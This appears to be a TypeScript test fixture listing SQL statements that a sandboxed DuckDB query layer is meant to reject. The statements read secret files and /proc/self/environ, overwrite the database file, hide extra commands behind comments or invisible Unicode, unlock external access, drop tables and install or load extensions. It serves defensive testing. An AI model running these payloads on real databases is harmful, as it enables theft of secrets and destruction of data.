// Statements that must come to nothing. `%DB%` is the attached file, `%DIR%` the folder of its company, `%WEB%` a server that listens.
// Each says what it does to an engine that nobody closed, and is seen to do it there: so the look for harm is known to see.

/**
 * `secret`: the answer holds what lies in another file · `path`: it tells where files lie · `file`: files change ·
 * `marts`: a question asked after it is answered otherwise · `web`: the server
 * is asked · `answer`: it runs although it is no SELECT over marts ·
 * `none`: even an open engine refuses it today.
 */
export type Harm = 'secret' | 'path' | 'file' | 'marts' | 'web' | 'answer' | 'none';

export type Attack = readonly [name: string, sql: string, harm: Harm];

const READ = "read_text('%DIR%/secret.csv')";
const COPY = "COPY (SELECT 1 AS one) TO '%DIR%/written.csv'";
const OVERWRITE = "COPY (SELECT 1) TO '%DB%' (FORMAT csv, USE_TMP_FILE false)";

const FILES_WRITTEN: readonly Attack[] = [
  ['overwrites the attached file', OVERWRITE, 'file'],
  ['overwrites it inside EXPLAIN ANALYZE', `EXPLAIN ANALYZE ${OVERWRITE}`, 'file'],
  ['overwrites it by a link', "COPY (SELECT 1) TO '%DIR%/link.duckdb' (FORMAT csv, USE_TMP_FILE false)", 'file'],
  ['writes a new file', COPY, 'file'],
  [
    'writes a file a partition',
    "COPY (SELECT 1 AS one) TO '%DIR%/dump' (PARTITION_BY (one), FORMAT csv, WRITE_PARTITION_COLUMNS true)",
    'file',
  ],
  ['exports all', "EXPORT DATABASE '%DIR%/dump'", 'file'],
  ['makes another database', "ATTACH '%DIR%/other.duckdb' AS other", 'file'],
  [
    'turns on logging to files',
    "SELECT * FROM enable_logging(level = 'trace', storage = 'file', storage_path = '%DIR%/logs')",
    'answer',
  ],
  ['turns it on by CALL', "CALL enable_logging('QueryLog', storage = 'file', storage_path = '%DIR%/logs')", 'answer'],
  ['keeps a secret for ever', "CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')", 'file'],
  ['prints profiles to a file', "PRAGMA profiling_output = '%DIR%/profile.txt'", 'answer'],
];

const FILES_READ: readonly Attack[] = [
  ['reads a text', `SELECT * FROM ${READ}`, 'secret'],
  ['reads the raw database', "SELECT octet_length(content) AS n, '%DIR%' AS p FROM read_blob('%DB%')", 'path'],
  ['reads a CSV', "SELECT * FROM read_csv('%DIR%/secret.csv')", 'secret'],
  ['reads JSON', "SELECT * FROM read_json('%DIR%/secret.json')", 'secret'],
  ['reads lines as JSON', "FROM read_ndjson_objects('%DIR%/secret.json')", 'secret'],
  ['reads another database', "FROM read_duckdb('%DIR%/secret.duckdb', table_name = 'secret')", 'secret'],
  ['reads a file by its name', "SELECT * FROM '%DIR%/secret.csv'", 'secret'],
  ['reads it by its name as an identifier', 'SELECT * FROM "%DIR%/secret.csv" AS cost', 'secret'],
  ['reads it by a glob', "SELECT * FROM '%DIR%/sec*.csv'", 'secret'],
  ['reads it by a link', "SELECT * FROM '%DIR%/link.csv'", 'secret'],
  ['reads it by a way around', "SELECT * FROM '%DIR%/out/../secret.csv'", 'secret'],
  ['describes it', "DESCRIBE '%DIR%/secret.csv'", 'answer'],
  ['sums it up', "SUMMARIZE '%DIR%/secret.csv'", 'secret'],
  ['guesses its columns', "FROM sniff_csv('%DIR%/secret.csv')", 'answer'],
  ['lists files', "SELECT * FROM glob('%DIR%/*')", 'path'],
  ['lists what is open', "SELECT '%DIR%' AS p, * FROM glob('/proc/self/fd/*')", 'path'],
  ['reads the environment', "SELECT content, '%DIR%' AS p FROM read_text('/proc/self/environ')", 'path'],
  ['loads rows into a mart', "COPY cost FROM '%DIR%/secret.csv'", 'none'],
  ['imports', "IMPORT DATABASE '%DIR%'", 'none'],
];

const HIDDEN: readonly Attack[] = [
  ['in a second statement', `SELECT 1; ${COPY}`, 'file'],
  ['behind a comment', `/* a /* nested */ question */ -- ;\n${COPY}`, 'file'],
  ['between semicolons', `;;SELECT 1;;${COPY};`, 'file'],
  ['behind a text that holds a quote', `SELECT $q$;'$q$; ${COPY}`, 'file'],
  ['behind spaces that are none', `SELECT 1;\u00a0\u2003${COPY}`, 'file'],
  ['behind a mark that nobody sees', `\ufeff${COPY}`, 'file'],
  ['behind a semicolon of another script', `SELECT 1\uff1b ${COPY}`, 'none'],
  ['behind the end of a text', `SELECT 1\0; ${COPY}`, 'answer'],
  ['in a prepared statement', `PREPARE p AS ${COPY}`, 'answer'],
  ['in a CTE', `WITH a AS (SELECT * FROM ${READ}) SELECT * FROM a`, 'secret'],
  ['in a CTE that recurses', `WITH RECURSIVE a AS (SELECT content FROM ${READ} UNION SELECT content FROM a) FROM a`, 'secret'],
  ['in an expression', `SELECT (SELECT content FROM ${READ})`, 'secret'],
  ['in a list', `SELECT list_transform([1], lambda x: (SELECT any_value(content) FROM ${READ}))`, 'none'],
  ['in the order', `SELECT 'hunter2' ORDER BY (SELECT content FROM ${READ})`, 'secret'],
  ['in a filter', `SELECT 'hunter2' WHERE EXISTS (FROM ${READ})`, 'secret'],
  ['in a lateral join', `SELECT b.content FROM range(1) AS a(i), LATERAL (SELECT content FROM ${READ}) AS b`, 'secret'],
  ['behind a union', `SELECT feature FROM cost UNION ALL SELECT content FROM ${READ}`, 'secret'],
  ['in a pivot', `PIVOT (SELECT content, 1 AS n FROM ${READ}) ON content USING sum(n)`, 'secret'],
  ['in quotes and capitals', `SELECT * FROM "READ_TEXT"('%DIR%/secret.csv')`, 'secret'],
  ['behind a schema', `SELECT * FROM system.main.read_text('%DIR%/secret.csv')`, 'secret'],
  ['in a query of text', "SELECT * FROM query('SELECT * FROM read_text(''%DIR%/secret.csv'')')", 'secret'],
  ['in a table of text', "SELECT * FROM query_table('%DIR%/secret.csv')", 'secret'],
  [
    'in a tree of a query',
    "FROM json_execute_serialized_sql(json_serialize_sql('SELECT * FROM read_text(''%DIR%/secret.csv'')'))",
    'secret',
  ],
  ['in the plan of a text', "SELECT json_serialize_plan('SELECT * FROM read_csv(''%DIR%/secret.csv'')')", 'path'],
  ['in EXPLAIN', `EXPLAIN SELECT * FROM ${READ}`, 'answer'],
];

const SETTINGS: readonly Attack[] = [
  ['unlocks', 'SET enable_external_access = true', 'none'],
  ['unlocks by RESET', 'RESET disabled_filesystems', 'answer'],
  ['unlocks by PRAGMA', "PRAGMA disabled_filesystems = ''", 'answer'],
  ['takes all memory', "SET memory_limit = '1TB'", 'answer'],
  ['lets it spill', "SET temp_directory = '%DIR%/spill'", 'answer'],
  ['turns on profiles', 'PRAGMA disable_profiling', 'answer'],
  ['keeps a variable', 'SET VARIABLE x = 1', 'answer'],
  ['reads a setting', "SELECT current_setting('secret_directory')", 'path'],
  ['reads all settings', 'SELECT * FROM duckdb_settings()', 'answer'],
  ['reads them as another engine names them', 'FROM pg_catalog.pg_settings', 'answer'],
  ['asks where the database lies', 'SELECT path FROM duckdb_databases', 'path'],
  ['asks by a full name', 'SELECT path FROM system.main.duckdb_databases', 'path'],
  ['asks by a function', 'SELECT path FROM duckdb_databases()', 'path'],
  ['asks by a list', 'FROM pragma_database_list', 'path'],
  ['asks by PRAGMA', 'PRAGMA database_list', 'path'],
  ['shows secrets', 'SELECT * FROM duckdb_secrets()', 'answer'],
  ['shows which secret', "FROM which_secret('s3://x', 's3')", 'answer'],
  ['shows files at hand', 'FROM duckdb_external_file_cache()', 'answer'],
  ['shows logs', 'FROM duckdb_logs', 'answer'],
  ['writes a log', "SELECT write_log('x')", 'answer'],
  ['sleeps', 'SELECT sleep_ms(1)', 'answer'],
  ['sleeps by another name', 'SELECT pg_catalog.pg_sleep(0)', 'answer'],
];

const CHANGES: readonly Attack[] = [
  ['deletes', 'DELETE FROM cost', 'marts'],
  ['deletes in a CTE', 'WITH gone AS (DELETE FROM cost RETURNING *) SELECT * FROM gone', 'none'],
  ['inserts and answers', "INSERT INTO cost BY NAME SELECT 3 AS n, 'none' AS feature RETURNING n", 'marts'],
  ['updates', "UPDATE cost SET feature = 'none'", 'marts'],
  ['truncates', 'TRUNCATE cost', 'marts'],
  ['drops', 'DROP TABLE marts.cost', 'marts'],
  ['alters', 'ALTER TABLE cost DROP COLUMN feature', 'marts'],
  ['merges', 'MERGE INTO cost USING (SELECT 1 AS n) AS s ON cost.n = s.n WHEN MATCHED THEN DELETE', 'marts'],
  ['hides a mart behind a view', "CREATE TEMP VIEW cost AS SELECT 'none' AS feature", 'marts'],
  ['hides a function', "CREATE TEMP MACRO upper(x) AS 'none'", 'answer'],
  ['begins a transaction', 'BEGIN', 'answer'],
  ['goes elsewhere', 'USE memory', 'marts'],
  ['detaches', 'USE memory; DETACH showback', 'marts'],
  ['writes to disk', 'CHECKPOINT showback', 'answer'],
  ['writes to disk by a function', "FROM force_checkpoint('showback')", 'answer'],
  ['copies all into memory', 'COPY FROM DATABASE showback TO memory', 'answer'],
];

const WORLD: readonly Attack[] = [
  ['reads from the network', "SELECT * FROM '%WEB%/x.csv'", 'none'],
  ['reads a bucket', "SELECT * FROM 's3://bucket/x.parquet'", 'none'],
  ['attaches from the network', "ATTACH '%WEB%/x.duckdb' AS w (READ_ONLY)", 'none'],
  ['installs', "INSTALL httpfs FROM '%WEB%'", 'web'],
  ['installs by force', "FORCE INSTALL spatial FROM '%WEB%'", 'web'],
  ['loads code', "LOAD '%DIR%/evil.duckdb_extension'", 'none'],
  ['loads by use', 'SELECT st_point(1, 2)', 'none'],
  ['lists extensions', 'FROM duckdb_extensions()', 'answer'],
  ['reads memory', 'FROM arrow_scan(1, 2, 3)', 'none'],
  ['reads a variable of the environment', "SELECT getenv('HOME')", 'none'],
  ['reads a variable of the session', "SELECT getvariable('x')", 'answer'],
];

export const ATTACKS: readonly Attack[] = [...FILES_WRITTEN, ...FILES_READ, ...HIDDEN, ...SETTINGS, ...CHANGES, ...WORLD];
